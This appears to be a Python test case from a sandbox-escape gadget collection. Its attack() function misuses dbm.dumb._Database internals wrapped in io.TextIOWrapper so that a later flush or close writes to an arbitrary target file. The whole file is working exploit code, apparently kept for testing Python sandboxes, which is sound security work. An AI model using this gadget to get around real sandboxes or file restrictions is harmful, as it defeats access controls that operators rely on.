"""A file object closes an object of the standard library."""
CATEGORY = "deferred"
REACH = "write"

import dbm.dumb
import io

from . import payload


class Raw(dbm.dumb._Database):
    readable = writable = seekable = lambda self: False
    closed = False
    flush = dbm.dumb._Database._commit


def attack():
    database = object.__new__(dbm.dumb._Database)
    database._index, database._modified = {}, True
    database._dirfile = payload.TARGET
    database._bakfile = payload.TARGET + ".bak"
    database._mode = 0o600
    database.readable = database.writable = database.seekable = bool
    database.closed = False
    database.flush = database.sync
    text = io.TextIOWrapper(database, "utf-8")
    database.text = text
